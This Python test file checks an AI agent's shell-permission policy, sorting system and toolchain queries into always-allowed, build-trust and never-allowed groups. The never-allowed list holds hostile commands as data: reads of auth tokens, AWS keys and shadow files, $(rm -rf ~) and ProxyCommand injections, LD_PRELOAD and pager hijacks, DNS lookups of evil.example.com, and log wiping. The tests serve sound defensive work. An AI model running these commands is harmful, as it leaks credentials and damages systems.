"""Probe round 29: toolchain and system queries.

What agents run to orient themselves (versions, package listings, version managers, the
machine's services, logs, kernel and packages), alone, piped into head/grep/jq/wc and in
&& chains, in all five modes: 1,596 distinct commands, and 315 attack neighbours of the
forms this round loosened (an option that writes, runs a program, reaches another host or
prints a secret).

Expected, per command, from the tool's own documentation:
- read-only (prints only, runs no project code, no plugin, no network write, no secret):
  allowed in every mode, explore included (seed 002);
- prints only, but runs what the project configures (rustup's proxies read
  rust-toolchain.toml, whose ``path =`` names a program; gradle reads gradle.properties;
  go may fetch modules; uv runs the project's .venv/bin/python to inspect it): the
  build's trust, allowed where a build is, denied in explore;
- prints a secret, reaches the network with the user's credentials, or runs the project's
  code or plugins: never allowed outside bypass.
"""
from __future__ import annotations

import pytest

from tests.policy.engine_helpers import MODES, assert_never_allowed, bash_in_every_mode

READ_ONLY_EVERYWHERE = [
    # versions of programs that load nothing of the project (each one's manual: --version
    # prints and exits). ssh(1): -V "display the version number and exit", no host, no
    # config read. lua.c runs standard input only when neither -e nor -v is given.
    # (probe round 31, benign31b) ruby(1): -v with no script and no -e quits after the
    # version, standard input unread (it was a never-allowed row)
    "ruby -v",
    "curl --version", "curl -V", "ssh -V", "lua -v", "nano --version", "htop --version",
    "git-lfs --version", "git-lfs version", "protoc --version", "buf --version", "direnv --version", "nix --version",
    "virtualenv --version", "pre-commit --version", "stack --version", "cabal --version", "systemctl --version",
    "gpg --version", "ld --version", "as --version", "cc --version", "ldd --version", "ccache --version",
    "journalctl --version", "sqlite3 --version", "pyenv --version", "rbenv --version", "conda --version",
    "conda -V", "pipenv --version", "gopls version", "kind version", "minikube version", "skaffold version",
    "vault version", "consul version", "nomad version", "pulumi version", "eksctl version", "k9s version",
    "zig version", "nginx -v", "nginx -V", "apache2 -v", "httpd -V", "snap version", "glab --version",
    "corepack --version", "age --version", "docker -v", "podman version", "gh version",
    # the machine: services, logs, kernel, hardware, packages (no option that writes, asks
    # another host or reads a file of settings to apply)
    "hostnamectl", "hostnamectl status", "timedatectl", "timedatectl status", "timedatectl show",
    "localectl status", "localectl list-locales", "lsmod", "lsusb", "lsusb -t", "lsusb -v -d 1d6b:0002", "lspci",
    "lspci -nnk", "lspci -v -s 00:02.0", "users", "last", "route -n", "ldconfig -p",
    "sysctl -a", "sysctl kernel.hostname", "sysctl -n hw.ncpu", "sysctl -n vm.swappiness net.core.somaxconn",
    "dmesg", "dmesg -T", "dmesg -T --level=err,warn", "dmesg -H -l err",
    "journalctl -n 50", "journalctl --no-pager -u docker", "journalctl -u nginx --since '1 hour ago' --no-pager",
    "journalctl -b -1 -p err", "journalctl -b", "journalctl --since -1h", "journalctl -k -b 0",
    "journalctl _PID=1 -n 5", "journalctl --disk-usage", "journalctl --list-boots", "journalctl -xe --no-pager", "journalctl -fu nginx",
    "systemctl status docker", "systemctl status", "systemctl", "systemctl --failed",
    "systemctl list-units --type=service", "systemctl list-units --type=service --state=running --no-pager",
    "systemctl is-active nginx", "systemctl is-enabled docker.service", "systemctl list-timers --all",
    "systemctl --user status", "systemctl list-unit-files --no-legend",
    "getent passwd", "getent group docker", "getent services ssh",
    "dpkg -l", "dpkg -l | grep python", "dpkg -s git", "dpkg -L git", "dpkg -S /usr/bin/git",
    "dpkg --print-architecture", "dpkg-query -W", "dpkg-query -W -f='${Package} ${Version}\\n'",
    "rpm -qa", "rpm -qi bash", "rpm -ql bash", "rpm -qf /usr/bin/git", "rpm -q --changelog bash",
    "apt list --installed", "apt list --upgradable", "apt show git", "apt-cache policy git",
    "apt-cache show git", "apt-cache search ripgrep", "apt-cache depends git", "apt-cache madison git", "snap list",
    # version managers' picks (pyenv/rbenv read .python-version/.ruby-version: a name)
    "pyenv versions", "pyenv versions --bare", "pyenv version", "pyenv version-name", "pyenv root",
    "pyenv which python", "pyenv whence pip", "rbenv versions", "rbenv version", "rbenv which ruby",
    "kubectx", "kubectx -c", "kubens", "kubens -c",
    # package managers' local queries
    "npm root", "npm root -g", "npm prefix", "npm prefix -g", "npm config get registry", "npm config get prefix",
    "npm config get cache init-license", "npm get registry", "npm pkg get name", "npm pkg get version",
    "npm pkg get scripts", "npm pkg get name version --json", "npm -w packages/web pkg get name",
    "pip cache dir", "pip cache list", "pip cache list --format=abspath", "pip inspect", "pip3 cache dir",
    "conda info", "conda info --envs", "conda info -e", "conda env list", "conda list", "conda list --json",
    "conda list -n base", "conda list --explicit",
    "pipenv --venv", "pipenv --where", "pipenv --py", "pipx list", "pipx list --short",
    "gem list", "gem list rails", "gem list -d rails", "gem which rake", "gem contents rake", "gem info rails",
    "bun pm ls", "bun pm ls --all", "bun pm bin", "bun pm bin -g",
    "uv cache dir", "uv tool list", "uv tool dir",
    "deno info",
    "php -m", "php --ini", "php -m | grep -i pdo",
    "podman ps", "podman ps -a", "podman images",
    "docker context show", "docker buildx version", "docker compose config --services",
    "docker compose config --volumes", "docker-compose config --services",
    "gh config list", "helm repo list", "helm repo ls", "terraform workspace show",
    "aws configure get region", "aws configure get output", "aws configure get profile.dev.region",
    "aws configure get region --profile staging",
    "ssh-add -l", "ssh-add -L", "ccache -s", "ccache --show-stats",
    "go help", "go help modules", "go mod edit -json", "go mod edit -print",
    # held before this round (kept as the sample's baseline)
    "go version", "go env GOPATH", "go env -json", "node --version", "npm ls --depth=0", "pip freeze",
    "uname -a", "cat /etc/os-release", "lscpu", "lsb_release -a", "free -h", "df -h", "ss -tlnp", "ip addr",
    "which -a python", "type -a ls", "command -v node", "git rev-parse HEAD", "git describe --tags",
    "git worktree list", "git count-objects -v", "kubectl get pods", "helm list", "docker compose ps",
    "aws sts get-caller-identity", "printenv HOME", "env | grep -i path",
    # compound forms
    "npm root -g | head -1", "journalctl -u docker -n 100 --no-pager | grep -i error | tail -20",
    "systemctl list-units --type=service --no-pager | wc -l", "dpkg -l | grep -E '^ii' | wc -l",
    "pyenv versions && python --version", "uname -a && lsb_release -a && nproc",
    "conda env list --json | jq -r '.envs[]'", "pip inspect | jq '.installed | length'",
    "lspci | grep -i vga", "sysctl -a 2>/dev/null | grep -i swappiness", "ssh -V 2>&1 | head -1",
    "cd /tmp && gem list | wc -l", "ruby --version && gem -v && bundle -v", "command -v docker && docker -v",
    "curl --version | head -1", "dmesg -T | tail -n 50", "getent passwd | cut -d: -f1",
]

# prints only, but runs what the project configures: the build's trust (denied in explore)
BUILD_TRUST = [
    # rustup's proxies read rust-toolchain.toml (path = a program, a toolchain to install);
    # rustup show runs that toolchain's rustc -vV
    "rustup show", "rustup show active-toolchain", "rustup toolchain list", "rustup target list --installed",
    "rustup component list --installed", "rustup which cargo", "cargo -vV", "cargo --list", "rustc -vV",
    "rustc --print sysroot", "rustc --print cfg", "rustc --print=target-list",
    # gradle documents -v as --version (gradle.properties: JVM options)
    "gradle -v", "./gradlew -v",
    # (probe round 31, benign31b) composer's version query loads the project's plugins from
    # vendor/, as composer validate does (it was a never-allowed row)
    "composer --version",
    # (probe round 32, benign32) composer's installed packages (its plugins, as composer
    # --version) and rails' version (bin/rails boots the Gemfile): never-allowed rows before
    "composer show", "rails --version",
    # may fetch modules, as go list -m all does
    "go mod graph", "go mod why github.com/pkg/errors", "go mod why -m golang.org/x/text",
    # uv runs the project's .venv/bin/python to inspect it, as for uv pip list
    "uv pip tree", "uv pip tree --depth 1",
    # (probe round 34, residuals35) poetry 2 installs and loads the project's plugins
    # ([tool.poetry.requires-plugins]) before any command: read-only rows before
    "poetry version", "poetry version --short", "poetry about",
]

# the attack neighbours of every loosened form, and the queries kept out: never allowed
# outside bypass
NEVER_ALLOWED = [
    # journalctl/dmesg/sysctl/systemctl writes, other hosts and secrets (systemctl show and
    # cat print a unit's Environment=)
    "journalctl --vacuum-size=1M", "journalctl --vacuum-time=1s", "journalctl -b --vacuum-size=1",
    "journalctl --rotate", "journalctl --flush", "journalctl --cursor-file=/tmp/x",
    "journalctl -n 5 --cursor-file /etc/passwd", "journalctl --setup-keys", "journalctl --update-catalog",
    "journalctl -M other", "journalctl -u x -b --rotate", "journalctl -n --vacuum-size=1",
    "dmesg -c", "dmesg -C", "dmesg -D", "dmesg -E", "dmesg -n 1", "dmesg --clear", "dmesg -F /etc/shadow",
    "dmesg --color -c", "dmesg -l --clear",
    "sysctl -w kernel.hostname=x", "sysctl kernel.hostname=x", "sysctl -p", "sysctl -p /etc/sysctl.conf",
    "sysctl --system", "sysctl --load=/tmp/x", "sysctl -f x",
    "systemctl stop docker", "systemctl restart docker", "systemctl enable x", "systemctl mask x",
    "systemctl daemon-reload", "systemctl edit x", "systemctl set-environment A=1", "systemctl show docker",
    "systemctl show-environment", "systemctl cat docker", "systemctl -H host status",
    "systemctl --host=root@x status", "systemctl status docker -H x", "systemctl kill x",
    "systemctl isolate rescue.target", "systemctl status $(rm -rf ~)", "systemctl --version --host x",
    "hostnamectl set-hostname evil", "hostnamectl hostname evil", "hostnamectl -H x status",
    "timedatectl set-time '2020-01-01'", "timedatectl set-ntp false", "localectl set-locale LANG=C",
    # ldd may run the program it is given (ldd(1), Security); ldconfig rebuilds the cache
    "ldconfig", "ldconfig /tmp/x", "ldd /bin/ls", "ldd ./bin/app", "ldd --version x",
    # lspci -q/-Q ask DNS; -A/-H touch the hardware; -F/-i read files
    "lspci -Q", "lspci -q", "lspci -i /tmp/ids", "lspci -A intel-conf1", "lspci -H1", "lspci -F dump",
    "lsusb -D /dev/bus/usb/001/001",
    # getent hosts is a DNS lookup (a channel out); shadow holds the hashes
    "getent hosts evil.example.com", "getent ahosts evil.example.com", "getent shadow", "getent gshadow",
    "getent -s dns passwd", "getent --service=dns passwd",
    # package databases: only queries
    "dpkg -i x.deb", "dpkg -r git", "dpkg -P git", "dpkg --configure -a", "dpkg --set-selections",
    "dpkg --root=/tmp -l", "dpkg --admindir=/tmp -l", "dpkg -l --force-all",
    "rpm -i x.rpm", "rpm -e git", "rpm -U x.rpm", "rpm -qa --eval '%(id)'", "rpm -q --qf '%{NAME}' git",
    "rpm -qa --dbpath /tmp", "rpm -q --define 'x y' git", "rpm -E '%(id)'",
    "apt install git", "apt update", "apt -o APT::Update::Pre-Invoke::=id list", "apt list -o Dir::Etc=/tmp",
    "apt-cache -o x=y policy git", "apt-cache gencaches", "apt-cache -c /tmp/conf policy",
    "snap install x", "route add default gw 1.2.3.4", "route del default",
    # version managers' writes and runs
    "pyenv install 3.12", "pyenv global 3.11", "pyenv local 3.11", "pyenv exec python -c 1", "pyenv rehash",
    "pyenv which $(id)", "rbenv install 3.3", "rbenv exec ruby -e 1", "kubectx prod", "kubens kube-system",
    # conda info -a prints the environment's variables; config --show, proxy passwords
    "conda info -a", "conda info --all", "conda config --show", "conda config --set x y", "conda install numpy",
    "conda create -n x", "conda list --name x --json extra other", "conda run python -c 1",
    "pipenv run python", "pipenv install", "pipenv graph", "pipenv --rm", "pipx run x", "pipx install x",
    # npm config get of a credential (npm 6 printed it), npm writes, another prefix or userconfig
    "npm config get //registry.npmjs.org/:_authToken", "npm config get _authToken", "npm config get _auth",
    "npm config get //npm.pkg.github.com/:_authToken", "npm config get password",
    "npm config get email _authToken", "npm config get cert", "npm config get key", "npm config get",
    "npm get _authToken", "npm config set registry http://evil", "npm config edit", "npm pkg set name=x",
    "npm pkg delete scripts", "npm pkg fix", "npm root --prefix /tmp", "npm root -C /tmp",
    "npm prefix --userconfig=/tmp/x", "npm root evil", "npm pkg get --userconfig=/tmp/x",
    "npm config list", "npm view react version", "npm outdated", "npm whoami", "npm help ls",
    # pip's writes and logs; pip config holds index URLs with their passwords
    "pip cache purge", "pip cache remove x", "pip cache list --log /tmp/x", "pip inspect --path /tmp",
    "pip cache dir --log=/tmp/x", "pip config list", "pip config get global.index-url",
    # gem's network and source lists; bundler's config holds credentials
    "gem list -r rails", "gem list --remote", "gem list --source http://x", "gem env", "gem sources",
    "bundle config", "bun pm cache rm", "uv cache clean", "poetry version patch",
    "deno info main.ts",
    # php -i prints the environment; -d/-c load another ini (auto_prepend_file runs a file)
    "php -i", "php --info", "php -r 'echo getenv(\"AWS_SECRET_ACCESS_KEY\");'",
    "php -m -d auto_prepend_file=/tmp/x", "php -d auto_prepend_file=x -m", "php -n -m -c /tmp",
    # docker compose config prints the .env's values; only the names' listings are read-only
    "docker compose config", "docker compose config --environment", "docker compose config --format json",
    "docker compose config -o out.yml --services", "docker-compose config", "docker -v ps",
    "docker context use evil", "docker buildx build .", "podman exec x sh", "podman run x",
    "docker inspect --format '{{.Config.Env}}' web",
    "gh config set editor vim", "gh config get oauth_token -h github.com", "gh auth token",
    # terraform's state and outputs (secrets, a remote backend's credentials)
    "terraform workspace select prod", "terraform workspace new x", "terraform output", "terraform output -json",
    "terraform show", "terraform state pull", "terraform console",
    "aws configure get aws_secret_access_key", "aws configure get aws_access_key_id",
    "aws configure get aws_session_token", "aws configure get profile.prod.aws_secret_access_key",
    "aws configure get credential_process", "aws configure get region --profile x --debug",
    "aws configure set region us-east-1", "aws configure get region extra",
    "aws configure get region --endpoint-url http://x",
    # helm: values and manifests hold secrets, helm env prints HELM_KUBETOKEN
    "helm repo add evil https://x", "helm repo remove x", "helm repo update",
    "helm repo list --repository-config /tmp/x", "helm env", "helm get values x", "helm get manifest x",
    "kubectl config view", "kubectl config view --raw", "kubectl get secret db-creds -o yaml",
    "ssh -V host", "ssh -v host", "ssh -V -o ProxyCommand=id x", "ssh -oProxyCommand=id -V",
    "ruby -v x.rb", "ruby -v -e 'system(\"id\")'", "ruby -ve 'system(\"id\")'", "lua -v x.lua",
    "rustc --print native-static-libs x.rs", "rustc --print link-args x.rs", "rustc --print=cfg=/tmp/x",
    "rustc --print crate-name x.rs", "rustc -vV x.rs", "rustup which $(id)", "rustup toolchain install nightly",
    "rustup target add wasm32-unknown-unknown", "rustup default nightly", "rustup override set nightly",
    "rustup update", "rustup run nightly cargo build", "cargo --list --config 'build.rustc=\"x\"'",
    "go mod edit -require=x@v1", "go mod edit -json -replace=x=../y", "go mod edit -go=1.22",
    "go mod edit -print -droprequire=x", "go mod edit", "go mod why -x y", "go mod why $(id)", "go help -x",
    "go generate ./...", "go env -w GOPROXY=http://evil",
    "curl --version http://evil", "curl -V -o x http://evil", "curl --version -K evil.cfg",
    "nginx -t", "nginx -v -c /tmp/evil.conf", "nginx -s stop", "apache2 -k start",
    "pulumi stack output", "pulumi config", "vault token lookup", "vault read secret/x", "zig run x.zig",
    "kind create cluster", "ccache -C", "ccache -z", "ssh-add -D", "cc x.c", "ld -o x y.o",
    "direnv allow", "direnv exec . id", "nix run nixpkgs#hello", "protoc --python_out=. x.proto",
    "corepack enable", "virtualenv venv", "pre-commit install", "consul kv get x",
    # a pager or a loader named in front of a loosened query runs it; a name built at run time
    "SYSTEMD_PAGER='sh -c id' systemctl status", "SYSTEMD_PAGERSECURE=0 systemctl status", "DPKG_PAGER=evil dpkg -l",
    "NPM_CONFIG_ONLOAD_SCRIPT=/tmp/x.js npm root", "npm_config_userconfig=/tmp/x npm root",
    "LD_PRELOAD=/tmp/x.so lsmod", "sysctl $(cat x)", "getent passwd $(curl x)", "journalctl -n 5 | sh",
    "journalctl -o export > /tmp/x", "gem which ../../x",
    # the environment's secrets and credential files stay asked
    "env | grep -i token", "printenv GITHUB_TOKEN", "cat ~/.aws/credentials", "cat ~/.npmrc",
    # the project's code or plugins load for these queries (composer's plugins from vendor/,
    # rails' bin/rails, nx/turbo/ng's local copies in node_modules; composer show and rails
    # --version are the build's trust since probe round 32, below; nx --version and turbo
    # --version since probe round 36, benign41: the copy nx build and turbo build run)
    "ng version",
]

# builds that stay on the build list, not read-only: denied in explore
BUILDS_NOT_READ_ONLY = ["gradle -v dependencies", "cargo -vV build", "go run .",
                        # (round 38 benign43: was in NEVER_ALLOWED; uv tree locks as uv lock does, then
                        # prints: uv lock's build trust, AAAAD, never read-only)
                        "uv tree"]


@pytest.mark.parametrize("command", READ_ONLY_EVERYWHERE)
def test_toolchain_or_system_query_is_allowed_in_every_mode(command):
    decisions = bash_in_every_mode(command)
    assert set(decisions.values()) == {"allow"}, (command, decisions)


@pytest.mark.parametrize("command", BUILD_TRUST)
def test_query_that_loads_the_project_configuration_has_the_build_trust(command):
    decisions = bash_in_every_mode(command)
    assert decisions == {"default": "allow", "accept_edits": "allow", "bypass": "allow", "dont_ask": "allow",
                         "explore": "deny"}, (command, decisions)


@pytest.mark.parametrize("command", NEVER_ALLOWED)
def test_writing_running_remote_or_secret_printing_neighbour_is_never_allowed(command):
    assert_never_allowed(command, modes=tuple(m for m in MODES if m != "bypass"))


@pytest.mark.parametrize("command", BUILDS_NOT_READ_ONLY)
def test_build_behind_a_version_option_is_no_read_only_command(command):
    assert bash_in_every_mode(command)["explore"] == "deny"
